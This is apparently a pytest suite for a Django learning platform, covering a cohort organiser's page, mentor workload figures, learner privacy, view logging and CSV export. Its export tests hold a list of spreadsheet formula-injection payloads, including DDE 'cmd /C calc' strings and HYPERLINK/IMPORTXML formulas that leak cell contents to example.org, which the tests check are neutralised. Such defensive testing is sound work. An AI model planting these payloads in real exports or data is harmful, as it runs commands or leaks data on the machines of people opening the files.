"""The organiser's page of a cohort: who needs somebody, what waits for whom, and the file of it."""

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from accounts.models import Sighting
from portfolio import mentor_load, spreadsheets
from tests.factories import (
    enroll,
    make_check_run,
    make_cohort,
    make_mentorship,
    make_project,
    make_review,
    make_unit,
    make_user,
)


def ago(**span):
    return timezone.now() - timedelta(**span)


@pytest.fixture
def olive(db):
    return make_user("Olive Tan")


@pytest.fixture
def spring(ada, grace, eve, olive):
    """Ada has Grace for herself; Eve has nobody but the cohort."""
    return make_cohort(slug="spring", organisers=[olive], mentors=[grace], learners=[ada, eve])


def test_an_organiser_sees_progress_and_nothing_of_what_is_built(ada, spring, olive, as_user):
    enroll(ada, make_unit(), weekly_hours=7, enrolled_at=ago(weeks=8))
    project = make_project(ada, title="Secret engine", slug="secret-engine")
    project.repositories.update(is_private=True)
    for number, outcome in enumerate(["passed", "failed"]):
        make_check_run(project, ("tests", outcome), requested_at=ago(days=9 - number))
    project.reviews.create(question="Is my secret fair?", requested_at=ago(days=4))

    page = as_user(olive).get("/cohorts/spring/").content.decode()

    assert "Ada Nwosu" in page
    assert "0 of 1 units" in page
    assert "of 7 h" in page
    assert "waits for a mentor" in page
    for hidden in ("ecret", "tests", "Tests", "no longer passes", "ada.nwosu@", "/@ada-nwosu/"):
        assert hidden not in page


def test_an_organiser_opens_no_page_of_a_learner(ada, spring, olive, as_user):
    make_project(ada, slug="engine")
    client = as_user(olive)

    for address in ("/mentoring/ada-nwosu/", "/@ada-nwosu/", "/@ada-nwosu/engine/"):
        assert client.get(address).status_code == 404


def test_the_page_filters(ada, spring, olive, as_user):
    make_project(ada).reviews.create()

    page = as_user(olive).get("/cohorts/spring/?show=waiting").content.decode()

    assert "Ada Nwosu" in page
    assert "Eve Moreau" not in page


def test_who_left_is_gone_from_page_and_file(ada, spring, olive, as_user):
    spring.memberships.filter(person=ada).update(left_at=timezone.now())
    client = as_user(olive)

    assert "Ada Nwosu" not in client.get("/cohorts/spring/").content.decode()
    assert "Ada Nwosu" not in read(client.get("/cohorts/spring/export.csv"))
    assert not Sighting.objects.filter(owner=ada).exists()


def test_everybody_on_the_page_and_in_the_file_reads_who_looked(ada, eve, spring, olive, as_user):
    client = as_user(olive)
    client.get("/cohorts/spring/")
    client.get("/cohorts/spring/export.csv")

    kinds = Sighting.objects.filter(viewer=olive).values_list("owner", "kind")
    assert set(kinds) == {(p.pk, kind) for p in (ada, eve) for kind in ("cohort", "export")}


# The mentors' load


def test_each_mentor_has_their_own_and_the_rest_is_the_pools(ada, grace, eve, spring):
    make_project(ada).reviews.create(requested_at=ago(days=6))
    make_project(ada).reviews.create(requested_at=ago(days=2))
    make_project(eve).reviews.create(requested_at=ago(days=3))
    outside = make_user()
    make_mentorship(mentor=grace, learner=outside)
    make_project(outside).reviews.create(requested_at=ago(days=30))

    picture = mentor_load.of(spring)

    [load] = picture.loads
    assert (load.learners, load.requests.count) == (1, 2)
    assert load.requests.longest_since.date() == ago(days=6).date()
    assert picture.pool.count == 1
    assert picture.pool.longest_since.date() == ago(days=3).date()


def test_the_usual_wait_is_that_of_what_was_asked_for(ada, grace, spring):
    def answered(*, waited, submitted):
        make_review(
            make_project(ada), status="submitted", verdict="approved", body="Good.",
            reviewer=grace, head_sha="a" * 40, submitted_at=submitted,
            requested_at=submitted - waited,
        )  # fmt: skip

    answered(waited=timedelta(days=1), submitted=ago(days=3))
    answered(waited=timedelta(days=5), submitted=ago(days=2))
    answered(waited=timedelta(hours=30), submitted=ago(days=1))
    answered(waited=timedelta(0), submitted=ago(days=1))  # unasked
    answered(waited=timedelta(days=9), submitted=ago(days=40))  # long ago

    [load] = mentor_load.of(spring).loads

    assert load.written == 4
    assert load.usual_wait == timedelta(hours=30)
    assert load.usual_days == 2


def test_a_cohort_without_anybody_has_a_page(olive, as_user):
    make_cohort(slug="empty", organisers=[olive])
    client = as_user(olive)

    page = client.get("/cohorts/empty/").content.decode()

    assert "Nobody learns here yet" in page
    assert "No mentor yet" in page
    assert read(client.get("/cohorts/empty/export.csv")).count("\r\n") == 1


def test_many_mentors_cost_as_much_as_one(spring, django_assert_num_queries):
    for count in (0, 20):
        for _ in range(count):
            mentor, learner = make_user(), make_user()
            spring.memberships.create(person=mentor, part="mentor")
            spring.memberships.create(person=learner, part="learner")
            make_mentorship(mentor=mentor, learner=learner)
            make_project(learner).reviews.create()
        with django_assert_num_queries(5):
            mentor_load.of(spring)


# The file


def read(response):
    return b"".join(response.streaming_content).decode()


def test_the_file_holds_what_the_page_says(ada, spring, olive, as_user):
    enroll(ada, make_unit(), weekly_hours=7, enrolled_at=ago(weeks=8))
    make_project(ada, created_at=ago(days=3)).reviews.create(requested_at=ago(days=2))

    response = as_user(olive).get("/cohorts/spring/export.csv")
    text = read(response)

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    today = timezone.localdate()
    assert response["Content-Disposition"] == f'attachment; filename="spring-{today}.csv"'
    assert "no-store" in response["Cache-Control"]
    assert text.startswith("\ufeff")
    head, first, second = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    day = f"{timezone.localdate(ago(days=2))}"
    assert first == ["Ada Nwosu", "ada-nwosu", "0", "1", "0", "420", day, "", "1", day]
    assert second[:2] == ["Eve Moreau", "eve-moreau"]
    assert len(head) == len(first) == len(second)


def test_a_name_that_is_a_formula_is_a_name(spring, olive, as_user):
    person = make_user("Mallory")
    spring.memberships.create(person=person, part="learner")
    person.profile.name = '=HYPERLINK("http://example.org/?"&A1,"Ada")'
    person.profile.save()

    rows = list(csv.reader(io.StringIO(read(as_user(olive).get("/cohorts/spring/export.csv")))))

    assert rows[1][0] == "'" + person.profile.name


DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://example.org\")", "+1", "+cmd|x", "-1",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)", "@x", "\t=1", "\tx", "\r=1", "\rx", "\n=1", "\nx",
    " =1", "  +1", "\u00a0=1", "\u2003-1", "\u200b=1", "\u200e@x", "\u202e=1", "\ufeff=1",
    "\u00ad=1", "\u2060=1", "＝1", "＋1", "－1", "＠x", " ＝1", "﹢1", "﹣1", "﹦1", "﹫x", "%0A-3",
    "|calc", "\x00=1", "\x0b=1", "\x0c=1", "\x1f=1", "\x85=1", "\u2028=1", "\u2029=1",
    "=IMPORTXML(CONCAT(\"http://example.org?\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\"=1", "'=1",
]  # fmt: skip


@pytest.mark.parametrize("cell", DANGEROUS)
def test_no_cell_begins_a_formula(cell):
    [line] = spreadsheets.lines([[cell, "next"]])
    text = line.removeprefix("\ufeff")

    assert line.startswith('\ufeff"')
    assert text.endswith('"\r\n')
    [read_back] = csv.reader(io.StringIO(text, newline=""))
    assert read_back[1] == "next"
    assert read_back[0][0] in "'\""
    assert read_back[0].lstrip("'") == cell.replace("\0", "").lstrip("'")


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("Ada Nwosu", "Ada Nwosu"), ("O'Neil, Jo \"J\"", "O'Neil, Jo \"J\""), ("a=b", "a=b"),
        ("x-y", "x-y"), ("a@b", "a@b"), ("数学", "数学"), ("", ""), (None, ""), (0, "0"), (12, "12"),
        (-3, "-3"), ("two\r\nlines", "two\r\nlines"), ("ends with ;=1", "ends with ;=1"),
        ("2026-11-25", "2026-11-25"), ("“=1”", "“=1”"),
    ],
)  # fmt: skip
def test_what_is_harmless_stays_as_it_is(cell, shown):
    [line] = spreadsheets.lines([[cell]])

    [[read_back]] = csv.reader(io.StringIO(line.removeprefix("\ufeff"), newline=""))
    assert read_back == shown


def test_the_file_is_written_row_by_row():
    rows = spreadsheets.lines([number] for number in range(10**9))

    assert next(rows) == '\ufeff"0"\r\n'
    assert next(rows) == '"1"\r\n'
